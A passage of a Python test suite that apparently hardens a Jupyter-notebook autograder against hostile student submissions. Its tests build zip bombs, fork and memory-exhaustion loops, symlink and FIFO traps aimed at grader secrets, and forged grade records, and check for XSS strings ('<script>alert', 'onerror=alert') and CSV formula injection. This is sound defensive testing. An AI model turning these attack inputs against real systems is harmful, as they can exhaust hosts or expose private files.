                 file_attacks=True)
    run.update(listener=listener)
    print(f"attack batch, --jobs {request.param}: {run['seconds']:.0f} s for "
          f"{len(ATTACKERS) + len(FOLDER_ATTACKERS) + 6} notebooks")
    return run


def test_the_batch_completes(attacked):
    result = attacked["result"]
    assert result.returncode == 0, result.stderr[-3000:]


def test_no_attacker_gains(attacked):
    scores = attacked["scores"]
    blank, wrong = scores["blank"], scores["plain_wrong"]
    assert sum(blank.values()) == 0 and sum(wrong.values()) == 3
    assert scores.get("blank_magics") == blank, "a blank notebook with magics must be graded, 0"
    for student in ATTACKERS + FOLDER_ATTACKERS + [EDITED_LAB_CELL]:
        if student not in scores:  # an attacker may kill its own kernel: then it is not graded at all
            continue
        baseline = wrong if student == "patches_expect" else blank
        assert scores[student] == baseline, (student, scores[student], baseline)


def test_no_victim_changes(attacked, alone):
    for victim in VICTIMS:
        assert attacked["scores"][victim] == alone["scores"][victim], victim
    assert sum(alone["scores"]["aaa_victim"].values()) == 6
    report = (attacked["course"] / "reports" / "summary.md").read_text()
    for victim in VICTIMS:
        row = next(line for line in report.splitlines() if line.startswith(f"| {victim} |"))
        assert "not graded" not in row and "rebinds" not in row and "flag" not in row


def test_nothing_survives_the_batch(attacked):
    assert attacked["survivors"] == [], "processes started by attackers outlived the batch"
    assert list(attacked["tmp"].glob("course-k-*")) == [], "a kernel's scratch folder was left behind"
    # big.bin: written by an attacker in its working folder, its /tmp and its home
    big = [p for p in (Path("/tmp/big.bin"), Path.home() / "big.bin") if p.exists()]
    assert big + list(attacked["course"].parent.rglob("big.bin")) == []
    assert not Path(f"/tmp/{MARKER}-grader-ran-student-code").exists(), "a student's cell ran in the grading process"


def test_nothing_outside_the_grading_output_changes(attacked):
    before, after = attacked["before"], attacked["after"]
    changed = sorted(path for path in set(before) | set(after) if before.get(path) != after.get(path))
    assert changed == [], changed
    assert attacked["listener"].received == [], "the kernel reached a server on the grader's machine"
    reports = attacked["course"] / "reports"
    assert "rewrites_reports,100" not in (reports / "grades.csv").read_text()


def test_the_kernel_can_write_on_the_host_only_in_its_grading_folder(tmp_path):
    """Why watching the grader's TMPDIR is enough: the sandbox binds one host folder writable,
    the kernel's own, which `kernel_folders` makes under TMPDIR; its /tmp, home and working
    folder are its own (in memory), everything else of the host it sees is read-only."""
    from course_admin import kernels, sandbox

    folder, ipc, objects = kernels.kernel_folders(str(tmp_path))
    answer = tmp_path / f"{LAB}.ipynb"
    answer.write_text("{}")
    command = sandbox.command([sys.executable, "-m", "ipykernel_launcher"], ipc=ipc, workdir=f"{sandbox.STUDENT_HOME}/work",
                              files=[answer], environment={"HOME": sandbox.STUDENT_HOME}, extra={str(objects): objects})
    writable = {command[at + 1] for at, arg in enumerate(command)
                if arg in ("--bind", "--bind-try", "--dev-bind", "--dev-bind-try")}  # bwrap's read-write mounts
    assert writable == {str(ipc)} and ipc.is_relative_to(tmp_path), writable


def test_no_secret_and_no_active_html_reaches_the_feedback(attacked):
    pages = list((attacked["course"] / "feedback").rglob("*.html"))
    assert len(pages) >= len(ATTACKERS)
    for page in pages:
        text = page.read_text()
        for secret in SECRETS:
            assert secret not in text, (page, secret)
        assert "<script>alert" not in text and "onerror=alert" not in text.replace("&lt;img src=x onerror=alert", "")
        assert str(ROOT) not in text and sys.prefix not in text, page
    # nothing active beyond what the course's own template puts on every page (a victim's)
    from test_neutralise import active

    baseline = set(active((attacked["course"] / "feedback" / "aaa_victim" / LAB / f"{LAB}.html").read_text()))
    for page in pages:
        extra = [part for part in active(page.read_text()) if part not in baseline]
        assert extra == [], (page, extra)
    assert (attacked["course"] / "feedback" / "markdown_xss" / LAB / f"{LAB}.html").is_file(), "the corpus was graded"
    for graded in (attacked["course"] / "autograded").rglob("*.ipynb"):
        text = graded.read_text()
        assert "SECRET_INPUT_7f3a" not in text and "HIDDEN_REFERENCE_9c1e" not in text, graded
        assert len(text) < 5_000_000, "outputs are cut before they are stored"


def test_every_attempt_is_flagged_with_the_students_name(attacked):
    report = (attacked["course"] / "reports" / "summary.md").read_text()
    rows = {line.split("|")[1].strip(): line for line in report.splitlines() if line.startswith("| ")}
    for student in ATTACKERS + FOLDER_ATTACKERS + [EDITED_LAB_CELL]:
        row = rows.get(student, "")
        assert row, f"{student} is missing from summary.md"
        flags = row.rsplit("|", 2)[-2]
        assert "not graded" in row or len(flags.strip()) > 10, (student, row)
    with open(attacked["course"] / "reports" / "grades.csv", newline="") as handle:
        students = [row["student_id"] for row in csv.DictReader(handle)]
    assert sorted(students) == sorted(set(students)), "one row per student"


def test_files_handed_in_reach_nothing_of_the_graders(attacked):
    """Links, a hard link and a FIFO beside a notebook: the kernel that lists its folder reads
    none of them, no copy of the linked file lands anywhere in the course, nothing blocks."""
    course = attacked["course"]
    for path in course.rglob("*"):
        if path.is_file() and not path.is_symlink():
            assert GRADER_SECRET.encode() not in path.read_bytes(), path
        assert not path.is_symlink() and not path.is_fifo(), path
    assert GRADER_SECRET not in attacked["result"].stdout + attacked["result"].stderr
    assert attacked["workspace"].graded(LAB, "links_in_folder"), "the notebook beside the links is still graded"


def test_feedback_hands_back_the_feedback_page_only(attacked):
    for folder in (attacked["course"] / "feedback").iterdir():
        files = [p.relative_to(folder) for p in folder.rglob("*") if not p.is_dir()]
        assert Path(LAB) / f"{LAB}.html" in files, (folder.name, files)
        assert set(files) <= {Path(LAB) / f"{LAB}.html", Path(LAB) / "timestamp.txt",
                              Path(LAB) / "submission_secret.txt"}, (folder.name, files)


def test_a_folder_submits_for_its_own_student_only_and_every_refusal_is_in_the_summary(attacked, alone):
    report = (attacked["course"] / "reports" / "summary.md").read_text()
    section = report.split("## Files not graded", 1)[-1]
    for file, reason in REFUSED_FILES.items():
        line = next((line for line in section.splitlines() if f"- {neutralise.for_markdown(file)}:" in line), "")
        assert neutralise.for_markdown(reason) in line, (file, reason, line)
    for victim in VICTIMS:  # notebooks planted for them, and a look-alike name, changed nothing
        assert attacked["scores"][victim] == alone["scores"][victim], victim


def test_a_timestamp_handed_in_is_not_the_submission_time(attacked):
    workspace = attacked["workspace"]
    assert workspace.graded(LAB, "own_timestamp") and workspace.timestamp(LAB, "own_timestamp") == ""


def test_only_ordinary_files_enter_the_sandbox(tmp_path):
    """Checked again where files enter the kernel (a submitted/ folder filled by hand, or by a
    collect that followed links): each is bound into the sandbox as whatever it points to."""
    from course_admin import execute

    secret = tmp_path / "gradebook.db"
    secret.write_text(GRADER_SECRET)
    folder = tmp_path / "submitted" / "mallory" / LAB
    folder.mkdir(parents=True)
    (folder / f"{LAB}.ipynb").write_text("{}")
    (folder / "timestamp.txt").write_text("2026-01-01 00:00:00 UTC")
    (folder / "notes.txt").write_text("mine")
    (folder / "data.txt").symlink_to(secret)
    os.link(secret, folder / "hard.txt")
    os.mkfifo(folder / "pipe")
    files, notes = execute._submitted_files({"metadata": {"path": str(folder)}})
    assert files == [folder / "notes.txt"]
    assert len(notes) == 3 and all("refused" in note for note in notes)
    assert any("symbolic link" in n for n in notes) and any("hard link" in n for n in notes)
    assert any("FIFO" in n for n in notes)


# ------------------------------------------------------------------------------ HTML and injection
def _added_cells(name: str) -> list[nbformat.NotebookNode]:
    """Cells an attacker adds: one markdown cell per case of the markdown-XSS
    corpus, or a cell with grading metadata whose grade_id is a forged record."""
    if name == "markdown_xss":
        from test_neutralise import ISSUE_ANSWERS, corpus_cases

        return [v4.new_markdown_cell(case) for case in corpus_cases() + list(ISSUE_ANSWERS.values())]
    if name == "forges_reports":
        return [_cell("code", "pass", grade=True, grade_id=FORGED, points=5, locked=True)]
    return []


def test_formgrader_shows_no_script_of_a_markdown_answer(attacked):
    """Formgrader renders the autograded notebook's markdown cells with nbconvert's
    markdown2html and its outputs with nbconvert's classic template: rendered that way, the
    corpus' cells and the issue's answers hold nothing active, and the flag says what was removed."""
    from nbconvert import HTMLExporter
    from test_neutralise import active, render

    graded = attacked["workspace"].autograded_path(LAB, "markdown_xss")
    nb = nbformat.read(graded, as_version=4)
    markdown = [cell for cell in nb.cells if cell.cell_type == "markdown"]
    assert len(markdown) >= 28
    for cell in markdown:
        assert active(render(cell.source)) == [], cell.source
    page, _ = HTMLExporter(template_name="classic").from_notebook_node(nb)
    victim, _ = HTMLExporter(template_name="classic").from_notebook_node(
        nbformat.read(attacked["workspace"].autograded_path(LAB, "aaa_victim"), as_version=4))
    assert [part for part in active(page) if part not in set(active(victim))] == []
    report = (attacked["course"] / "reports" / "summary.md").read_text()
    row = next(line for line in report.splitlines() if line.startswith("| markdown\\_xss |")
               or line.startswith("| markdown_xss |"))
    assert "removed" in row and "shown as text" not in row, row


def test_no_forged_record_reaches_the_terminal_summary_or_csv(attacked):
    """A grade_id and printed text holding escape sequences, a fake summary row and <b>:
    the terminal gets no control character, summary.md no forged row or tag, grades.csv no formula."""
    from test_neutralise import TERMINAL_CONTROL, render

    stdout = attacked["result"].stdout
    assert not TERMINAL_CONTROL.search(stdout), repr(stdout[-2000:])
    assert "forges_reports" in stdout, "the forged grade_id is flagged on the terminal"
    report = (attacked["course"] / "reports" / "summary.md").read_text()
    assert not TERMINAL_CONTROL.search(report)
    page = render(report)
    assert "<b>" not in page and "all students graded, no flags" in page, "the forged grade_id is text in a flag"
    for table in re.findall(r"<table>.*?</table>", page, re.S):
        rows = re.findall(r"<tr>.*?</tr>", table, re.S)
        assert len({row.count("<td") + row.count("<th") for row in rows}) == 1, "no row with other columns"
    assert page.count("<td>aaa_victim</td>") == 1, "one row for aaa_victim: the forged one is text in a flag"
    with open(attacked["course"] / "reports" / "grades.csv", newline="") as handle:
        cells = [cell for row in csv.reader(handle) for cell in row]
    assert not any(re.match(r"\s*[=+\-@]", cell) for cell in cells), cells
# ---------------------------------------------------------------- order, callbacks, copies
def _graded(attacked, student: str) -> nbformat.NotebookNode:
    return nbformat.read(attacked["course"] / "autograded" / student / LAB / f"{LAB}.ipynb", as_version=4)


def _flags(attacked, student: str) -> str:
    return " ".join(attacked["workspace"].flags(LAB, student))


def test_moved_tests_run_in_the_courses_order_and_a_kept_callback_is_refused(attacked):
    """The mean_square tests moved after row_softmax's still ran first (the student's
    mean_square saw no row_softmax call); the course's mean_square, kept during row_softmax's
    visible test, raised when called in a later call; both are flagged."""
    student = "keeps_callback_moves_tests"
    assert attacked["scores"][student] == {"mean_square": 0, "row_softmax": 0}
    cell = _test_cell(_graded(attacked, student), "test_mean_square_visible")
    printed = "".join(output.get("text", "") for output in cell.outputs)
    assert "row_softmax ran 0 times before this call" in printed, printed
    flags = _flags(attacked, student)
    assert "test cells reordered" in flags and "called it during a later call (refused)" in flags, flags


def test_changes_to_the_tests_arguments_do_not_reach_the_tests(attacked):
    student = "zeroes_arguments"
    assert attacked["scores"][student] == {"mean_square": 0, "row_softmax": 0}
    flags = _flags(attacked, student)
    assert "mean_square changed the tests' arguments in place" in flags, flags
    assert "row_softmax changed the tests' arguments in place" in flags, flags


def test_edited_test_cells_count_for_nothing_and_are_flagged(attacked):
    student = "edits_test_cells"
    assert attacked["scores"][student] == {"mean_square": 0, "row_softmax": 0}
    assert attacked["workspace"].grades(LAB, student)["test_mean_square_visible"][1] == 1, "the course's points count"
    flags = _flags(attacked, student)
    for expected in ("points edited (100 instead of 1", "grade_id edited", "outputs in a test cell",
                     "test cells reordered"):
        assert expected in flags, (expected, flags)
    report = (attacked["course"] / "reports" / "summary.md").read_text()
    row = next(line for line in report.splitlines() if line.startswith(f"| {student} |"))
    assert "points edited" in row and "grade_id edited" in row, row

# ---------------------------------------------------------------- kernel-owned files and limits
def _within(seconds: float, function, *args):
    """`function(*args)`, failing the test (not hanging it) when it blocks past `seconds`."""
    result: list = []
    thread = threading.Thread(target=lambda: result.append(function(*args)), daemon=True)
    thread.start()
    thread.join(seconds)
    assert result, f"{getattr(function, '__name__', function)} blocked for more than {seconds} s"
    return result[0]


def test_the_guard_log_is_read_without_following_what_the_kernel_put_there(tmp_path):
    """The kernel owns its folder: a FIFO as its guard log must not block the grader, a link to
    /dev/zero must not be an endless read, a link to a grader's file must not be read, and
    each is flagged."""
    from course_admin import kernels

    secret = tmp_path / "secret.jsonl"
    secret.write_text('{"cell": "' + GRADER_SECRET + '", "changed": []}\n')
    big = tmp_path / "big.jsonl"
    with open(big, "wb") as handle:
        handle.truncate(3 * 2**30)  # sparse: 3 GB of zeros, no disk used
    cases = {"fifo": lambda p: os.mkfifo(p), "zero": lambda p: p.symlink_to("/dev/zero"),
             "link": lambda p: p.symlink_to(secret), "big": lambda p: os.rename(big, p)}
    for name, make in cases.items():
        log = tmp_path / name / "guard.jsonl"
        log.parent.mkdir()
        make(log)
        notes: list[str] = []
        assert _within(10, kernels.read_guard_log, log, 200, notes) == [], name
        assert len(notes) == 1 and "replaced its guard log" in notes[0], (name, notes)
    assert kernels.read_guard_log(tmp_path / "missing.jsonl", 200, notes) == []


def test_the_grader_stages_tokenizers_where_the_kernel_cannot_write(tmp_path):
    """Issue 23: root saved a tokenizer in the kernel's folder and chmodded the tree it found
    there; a kernel that replaced `objects/` with a link had root write and chmod its target."""
    import stat

    from course_admin import kernels, remote_client
    from course_admin.kernel import codec

    victim = tmp_path / "victim"
    victim.mkdir()
    (victim / "private.txt").write_text("mine")
    (victim / "private.txt").chmod(0o600)
    folder, ipc, objects = kernels.kernel_folders(str(tmp_path))
    assert not objects.is_relative_to(ipc) and stat.S_IMODE(objects.stat().st_mode) == 0o755
    assert stat.S_IMODE(folder.stat().st_mode) == 0o700
    for name in ("objects", "staging"):  # what the kernel could do in its own folder
        (ipc / name).symlink_to(victim, target_is_directory=True)

    class Tokenizer:  # what Encoder._saved_tokenizer uses of a transformers tokenizer
        name_or_path, padding_side, truncation_side, model_max_length = "t", "right", "right", 8
        special_tokens_map: dict = {}

        def __len__(self) -> int:
            return 3

        def save_pretrained(self, where: Path) -> None:
            (Path(where) / "vocab.txt").write_text("a\nb\nc\n")

    client = remote_client.GraderClient(ipc, lambda code: None, save_dir=objects)
    try:
        saved = codec.Encoder(save_dir=client.save_dir)._saved_tokenizer(Tokenizer())
    finally:
        client.close()
    assert saved.parent == objects and (saved / "vocab.txt").read_text() == "a\nb\nc\n"
    assert sorted(p.name for p in victim.iterdir()) == ["private.txt"]
    assert stat.S_IMODE((victim / "private.txt").stat().st_mode) == 0o600
    with pytest.raises(ValueError, match="kernel's own folder"):
        remote_client.GraderClient(ipc, lambda code: None, save_dir=ipc / "objects")


def _blank_with(tmp_path: Path, name: str, change) -> Path:
    """The attack target's blank notebook, changed by `change(notebook dict)`, written as `name`."""
    import json

    nb = json.loads((ROOT / "notebooks" / "lab1_lime_from_scratch" / "lab1_lime_from_scratch.ipynb").read_text())
    change(nb)
    path = tmp_path / name
    path.write_text(json.dumps(nb) if not isinstance(nb.get("raw"), str) else nb["raw"])
    return path


def test_a_notebook_past_the_limits_is_refused_with_a_reason_not_a_crash(tmp_path):
    """Issue 23: metadata nested 100,000 deep (260 KB) crashed `course autograde` with a
    RecursionError; 10,000 cells or a 14 MB attachment took 440 s instead of 27 s."""
    from course_admin import collect, execute

    deep = '{"a": ' * 100_000 + "1" + "}" * 100_000

    def nest(nb: dict) -> None:
        text = json.dumps(nb)
        nb["raw"] = text[:-1] + ', "deep": ' + deep + "}"

    import base64
    import json

    picture = {"image/png": base64.b64encode(os.urandom(10 * 2**20)).decode()}
    cases = {"deep": (nest, "nests more than 100 levels"),
             "cells": (lambda nb: nb["cells"].extend(v4.new_markdown_cell("x") for _ in range(10_000)), "above the limit of 1000"),
             "attached": (lambda nb: nb["cells"][0].update(attachments={"a.png": picture}), "MB of images")}
    for name, (change, reason) in cases.items():
        path = _blank_with(tmp_path, f"{name}.ipynb", change)
        start = time.perf_counter()
        found = collect._read_notebook(path, 20)
        assert isinstance(found, str) and reason in found, (name, found)
        assert time.perf_counter() - start < 5, name
        if name != "deep":  # nbgrader's own autograde path refuses it before a kernel starts
            with pytest.raises(execute.NotebookRefused, match=reason):
                execute.CourseExecute().preprocess(nbformat.read(path, as_version=4), {})
    from course_admin import pipeline as grading
    assert grading.failure_reason("NotebookRefused: 10001 cells, above the limit").startswith("not graded: 10001")
    honest = _blank_with(tmp_path, "honest.ipynb", lambda nb: None)
    assert not isinstance(collect._read_notebook(honest, 20), str)


def test_a_zip_bomb_is_refused_before_it_fills_the_disk(tmp_path):
    """Issue 23: a 2.2 MB zip bomb wrote 2.14 GB to /tmp. Limits hold whatever the archive's
    directory claims: the member count, the total, each member's size and inflation ratio."""
    import zipfile

    from course_admin import collect

    bomb = tmp_path / "class.zip"
    with zipfile.ZipFile(bomb, "w", zipfile.ZIP_DEFLATED, compresslevel=9) as archive:
        for index in range(40):
            archive.writestr(f"export/s{index}_{LAB}.ipynb", b"\0" * 15 * 2**20)  # 15 MB each, 600 MB in all
    assert bomb.stat().st_size < 2 * 2**20
    with pytest.raises(collect.ZipRefused, match="inflates more than"):
        collect.unpack(bomb, tmp_path / "scratch")
    written = sum(p.stat().st_size for p in (tmp_path / "scratch").rglob("*") if p.is_file())
    assert written <= 2 * 2**20, written

    big = tmp_path / "big.zip"
    with zipfile.ZipFile(big, "w", zipfile.ZIP_STORED) as archive:
        archive.writestr(f"bob_{LAB}.ipynb", "{}")
        archive.writestr("bob/data.bin", os.urandom(21 * 2**20))
    skipped: list = []
    folder = collect.unpack(big, tmp_path / "scratch2", skipped)
    assert sorted(p.name for p in folder.rglob("*") if p.is_file()) == [f"bob_{LAB}.ipynb"]
    assert len(skipped) == 1 and "above the 20 MB limit" in skipped[0].reason

    many = tmp_path / "many.zip"
    with zipfile.ZipFile(many, "w") as archive:
        for index in range(collect.MAX_ZIP_MEMBERS + 1):
            archive.writestr(f"f{index}", b"")
    with pytest.raises(collect.ZipRefused, match="files in the archive"):
        collect.unpack(many, tmp_path / "scratch3")


def test_a_replaced_guard_log_blocks_nothing_and_is_flagged(attacked):
    """A FIFO or a link to /dev/zero as the kernel's guard log: the batch finishes (checked by
    test_the_batch_completes) and the instructor is told."""
    report = (attacked["course"] / "reports" / "summary.md").read_text()
    for student, what in (("guard_log_fifo", "FIFO"), ("guard_log_zero", "symbolic link")):
        row = next(line for line in report.splitlines() if line.startswith(f"| {student} |"))
        assert "replaced its guard log" in row and what in row, row


def test_a_kernel_that_ignores_ctrl_c_is_killed_and_reported_with_the_reason(attacked):
    """Issue 23: at --timeout 60 such a notebook took 140 s and was "not graded: unknown error"."""
    import json

    marker = attacked["course"] / "reports" / "progress" / LAB / "ignores_ctrl_c.json"
    result = json.loads(marker.read_text())["result"]
    assert "did not stop within 10 s of the interrupt" in result["error"], result
    # the test that met the loop first is named (which one depends on where the time limit fell)
    assert re.search(r"a cell \(test_mean_square_(visible|hidden)\)", result["error"]), result


# ---------------------------------------------------------------- resources
def test_resource_attacks_are_flagged_with_what_stopped_them(attacked):
    report = (attacked["course"] / "reports" / "summary.md").read_text()
    rows = {line.split("|")[1].strip(): line for line in report.splitlines() if line.startswith("| ")}
    assert "total memory limit" in rows["forks_memory"]
    assert "filled its folder" in rows["fills_its_folder"]
    assert attacked["groups_left"] == set(), "a sandbox's cgroup outlived its notebook"


def _spawned(group, code: str, timeout: float = 60) -> subprocess.CompletedProcess:
    """`code` run by a Python started in `group` (the way a sandbox starts in its group)."""
    from course_admin import cgroup

    return subprocess.run(cgroup.wrap(group, [sys.executable, "-c", code]), capture_output=True, text=True,
                          timeout=timeout)


@pytest.fixture
def group():
    """A cgroup with a small budget, removed after the test (skipped where none can be made)."""
    from course_admin import cgroup

    made, problem = cgroup.create(cgroup.Budget(memory_mb=256, cpus=0.25, pids=40))
    if made is None:
        pytest.skip(f"no cgroup on this machine: {problem}")
    yield made
    assert made.remove(), "a sandbox's cgroup stayed behind"
    assert not any(folder.exists() for folder in made.folders)


def test_a_sandbox_group_bounds_the_memory_of_all_its_processes_together(group):
    """Three children of 150 MB each fit a per-process limit, not a total of 256 MB."""
    result = _spawned(group, '''
import os, signal
done, report = os.pipe()
for _ in range(3):
    if os.fork() == 0:
        block = b"1" * (150 * 2**20)
        os.write(report, b"1")
        import time; time.sleep(1)
        os.kill(os.getpid(), signal.SIGKILL)
os.close(report)
filled = b""
while chunk := os.read(done, 16):
    filled += chunk
print(len(filled))
''')
    assert int(result.stdout.split()[-1]) < 3, "three children together used more than the group's memory"
    assert group.out_of_memory_kills() >= 1
    assert group.peak_memory_mb() <= 256 + 1


def test_a_sandbox_group_bounds_cpu_time_and_processes(group):
    """Four spinning processes get a quarter of a core between them, not four cores' worth;
    the 41st process is refused."""
    import resource

    before = resource.getrusage(resource.RUSAGE_CHILDREN)
    _spawned(group, '''
import os, time
children = []
for _ in range(4):
    pid = os.fork()
    if pid == 0:
        end = time.monotonic() + 2
        while time.monotonic() < end:
            pass
        os._exit(0)
    children.append(pid)
for pid in children:
    os.waitpid(pid, 0)
''')
    after = resource.getrusage(resource.RUSAGE_CHILDREN)
    used = (after.ru_utime - before.ru_utime) + (after.ru_stime - before.ru_stime)
    assert used < 1.2, f"4 spinners used {used:.2f} s of CPU in 2 s at a quota of 0.25 core"
    result = _spawned(group, '''
import os, time
started = 0
for _ in range(100):
    try:
        if os.fork() == 0:
            os.close(1), os.close(2)  # the test does not wait for their output
            time.sleep(30)
            os._exit(0)
        started += 1
    except OSError:
        break
print(started)
''')
    assert int(result.stdout.split()[-1]) < 40
    assert group.pids(), "the sleeping children are in the group until it is removed"


def test_the_kernels_folder_on_the_host_is_capped():
    """What the kernel writes into its folder on the host stops at the cap (a short /tmp path,
    as the grader's own: socket paths are limited)."""
    import shutil
    import tempfile

    from course_admin import sandbox

    folder = Path(tempfile.mkdtemp(prefix="course-cap-", dir="/tmp"))
    try:
        problem = sandbox.cap_folder(folder, sandbox.Limits(folder_mb=16))
        if problem:
            pytest.skip(problem)
        written = 0
        with pytest.raises(OSError), open(folder / "fill.bin", "wb") as handle:
            for _ in range(64):
                handle.write(b"0" * 2**20)
                handle.flush()
                written += 2**20
        assert written <= 16 * 2**20 and sandbox.folder_full(folder)
    finally:
        sandbox.release_folder(folder)
        shutil.rmtree(folder)


def test_frames_of_millions_of_tiny_values_are_refused_before_they_are_parsed():
    """9 MB of `{}` would be 3 million dicts (some 200 MB) once parsed."""
    import tracemalloc

    from course_admin import remote_client
    from course_admin.kernel import codec, wire

    left, right = socket.socketpair()
    head = b'{"nbuf": 0, "v": [' + b"{}," * 3_000_000 + b"{}]}"
    sender = threading.Thread(target=lambda: (right.sendall(len(head).to_bytes(4, "big") + head), right.close()))
    sender.start()
    tracemalloc.start()
    try:
        with pytest.raises(codec.ProtocolError):
            wire.recv_frame(left, limit=remote_client.MAX_ANSWER_BYTES)
        _, peak = tracemalloc.get_traced_memory()
    finally:
        tracemalloc.stop()
        sender.join()
        left.close()
    assert peak < 3 * len(head) + 2**20, f"{peak / 2**20:.0f} MB to refuse a {len(head) / 2**20:.0f} MB frame"


def test_decoded_values_and_the_type_names_kept_are_bounded():
    import gc
    import tracemalloc

    from course_admin.kernel import codec

    with pytest.raises(codec.ProtocolError):
        codec.Decoder([]).decode({"t": "list", "v": [None] * (codec.MAX_NODES + 1)})
    one = codec.Decoder([]).decode({"t": "list", "v": [{"t": "opaque", "type": f"T{i}"} for i in range(1000)]})
    assert len({type(value) for value in one}) <= codec.MAX_TYPE_NAMES_PER_ANSWER + 1
    assert type(one[0]).__name__ == "T0", "the first names still reach the tests' messages"
    gc.collect()
    tracemalloc.start()
    for answer in range(200):  # 200 answers of 100 new names each, as a batch of students might send
        codec.Decoder([]).decode({"t": "list", "v": [{"t": "opaque", "type": f"N{answer}_{i}"} for i in range(100)]})
    gc.collect()
    kept, _ = tracemalloc.get_traced_memory()
    tracemalloc.stop()
    assert len(codec._OPAQUE_TYPES) <= codec.MAX_TYPE_NAMES
    assert kept < 8 * 2**20, f"{kept / 2**20:.0f} MB kept after the answers were dropped"


def test_protocol_events_kept_for_the_report_are_bounded():
    import tempfile

    from course_admin import remote_client
    from course_admin.kernel import wire

    folder = Path(tempfile.mkdtemp(prefix="course-ev-", dir="/tmp"))
    client = remote_client.GraderClient(folder, run_in_kernel=lambda code: None)
    try:
        for _ in range(3 * remote_client.MAX_EVENTS):
            with socket.socket(socket.AF_UNIX) as sock:
                sock.connect(client.path)
                wire.send_frame(sock, {"op": "nonsense"})
                sock.recv(64)
        _wait_until(lambda: len(client.events) >= remote_client.MAX_EVENTS, seconds=10)  # the server saw them all
        assert 0 < len(client.events) <= remote_client.MAX_EVENTS
    finally:
        client.close()
        import shutil

        shutil.rmtree(folder)


def _peak_rss_mb() -> float:
    return int(next(line for line in Path("/proc/self/status").read_text().splitlines()
                    if line.startswith("VmHWM")).split()[1]) / 1024


def test_a_kernel_message_past_the_cap_is_dropped_before_it_is_read(tmp_path):
    """A 600 MB print is one ZMQ frame: the grading client refuses it unread (its peak stays
    flat), connects its iopub channel again, and receives what the kernel sends next."""
    import asyncio

    import zmq

    from course_admin import kernels, sandbox
    from course_admin.kernel import codec

    payload = b"x" * (kernels.MAX_KERNEL_MESSAGE_BYTES + 40 * 2**20)
    client = kernels.BoundedKernelClient(transport="ipc", ip=str(tmp_path / "k"), iopub_port=1)
    publisher = zmq.Context.instance().socket(zmq.PUB)
    publisher.bind(f"ipc://{tmp_path}/k-1")

    async def receive(seconds: float) -> list[int]:
        received, deadline = [], time.monotonic() + seconds
        while time.monotonic() < deadline and 5 not in received:
            publisher.send(b"small")
            try:
                received.append(len(await asyncio.wait_for(client.iopub_channel.socket.recv(), 0.2)))
            except asyncio.TimeoutError:
                pass
        return received

    async def listen() -> tuple[list[int], bool, list[int]]:
        assert 5 in await receive(5), "connected"
        Path("/proc/self/clear_refs").write_text("5")  # the peak from here on
        publisher.send(payload, copy=False)
        before = await receive(1)
        reopened = False
        for _ in range(20):
            reopened = reopened or client.reopen_dropped_iopub()
            await asyncio.sleep(0.05)
        return before, reopened, await receive(10)

    try:
        start = _peak_rss_mb()
        before, reopened, after = asyncio.run(listen())
        grown = _peak_rss_mb() - start
    finally:
        publisher.close(linger=0)
        client.stop_channels()
    assert len(payload) not in before + after and reopened and client.dropped == 1
    assert 5 in after, "the channel works again after the refused message"
    assert grown < 40, f"the peak grew by {grown:.0f} MB for a message that was refused"
    manager = kernels.SandboxedKernelManager(kernels.KernelSetup(
        folder=tmp_path, objects=tmp_path, files=[], environment={}, limits=sandbox.Limits()))
    assert manager.client_factory is kernels.BoundedKernelClient
    assert manager.session.unpack is codec.bounded_json, "kernel messages are parsed with a bound"
    with pytest.raises(ValueError):
        codec.bounded_json(b"[" + b"0," * codec.MAX_JSON_ITEMS + b"0]")


def test_nbgraders_own_autograde_refuses_a_deep_notebook_with_its_reason_and_grades_the_others(target):
    """Issue 23: a notebook nesting 100,000 deep reached nbformat's recursive JSON parser in
    nbgrader's own autograde (Formgrader's button): a RecursionError traceback, no reason.
    The course's exporter (`c.Autograde.exporter_class`) refuses it before parsing."""
    import shutil

    base, template, release = target
    course = base / "nbgrader-deep"
    shutil.copytree(template, course, ignore=shutil.ignore_patterns("gradebook.db"))
    pipeline.Workspace(course, [LAB]).register(LAB)
    deep = '{"a": ' * 100_000 + "1" + "}" * 100_000
    honest = nbformat.writes(_notebook(release, ANSWERS))
    for student, text in {"alice": honest[:honest.rindex("}")] + ', "deep": ' + deep + "}", "bob": honest}.items():
        folder = course / "submitted" / student / LAB
        folder.mkdir(parents=True)
        (folder / "timestamp.txt").write_text("2026-12-01 10:00:00.000000 UTC")
        (folder / f"{LAB}.ipynb").write_text(text)
    env = {**os.environ, "PATH": f"{Path(sys.executable).parent}:{os.environ['PATH']}"}
    done = subprocess.run([str(Path(sys.executable).parent / "nbgrader"), "autograde", LAB], cwd=course, env=env,
                          capture_output=True, text=True, timeout=900)
    log = done.stdout + done.stderr
    assert "NotebookRefused: its JSON nests more than 100 levels deep" in log, log[-3000:]
    assert "RecursionError" not in log
    assert pipeline.failure_reason(log).startswith("not graded: its JSON nests")
    workspace = pipeline.Workspace(course, [LAB])
    assert workspace.graded(LAB, "bob") and not workspace.graded(LAB, "alice")


def test_a_cgroup_v2_budget_is_written_where_a_delegated_tree_reads_it(tmp_path, monkeypatch):
    """The v2 path on a delegated folder (COURSE_CGROUP), as a systemd host or a container with
    its own cgroup namespace offers it. This host mounts cgroup v1, so the folder is a copy of
    a v2 folder's interface files: what is checked is which files get which values."""
    from course_admin import cgroup

    delegated = tmp_path / "delegated"
    delegated.mkdir()
    (delegated / "cgroup.controllers").write_text("cpuset cpu io memory pids\n")
    (delegated / "cgroup.subtree_control").write_text("io\n")
    monkeypatch.setattr(cgroup, "_mounts", lambda: {"2": tmp_path})
    monkeypatch.setenv(cgroup.CGROUP_ENV, str(delegated))
    made = cgroup._create_v2(cgroup.Budget(memory_mb=256, cpus=0.5, pids=40), "course-sandbox-x")
    folder = delegated / "course-sandbox-x"
    assert (delegated / "cgroup.subtree_control").read_text() == "+cpu +memory +pids"
    assert (folder / "memory.max").read_text() == str(256 * 2**20)
    assert (folder / "memory.swap.max").read_text() == "0"
    assert (folder / "cpu.max").read_text() == "50000 100000"
    assert (folder / "pids.max").read_text() == "40"
    assert made.version == 2 and made.folders == [folder] and made.kill_file == folder / "cgroup.kill"
    assert cgroup.wrap(made, ["bwrap"])[-1] == "bwrap" and str(folder / "cgroup.procs") in cgroup.wrap(made, [])[2]

    (delegated / "cgroup.controllers").write_text("cpuset io memory\n")
    (delegated / "cgroup.subtree_control").write_text("memory\n")
    with pytest.raises(ValueError, match=r"does not offer cpu, pids \(delegate them, or set COURSE_CGROUP\)"):
        cgroup._create_v2(cgroup.Budget(), "course-sandbox-y")


def test_on_a_hybrid_host_the_v1_group_is_killed_through_the_v2_hierarchy(tmp_path):
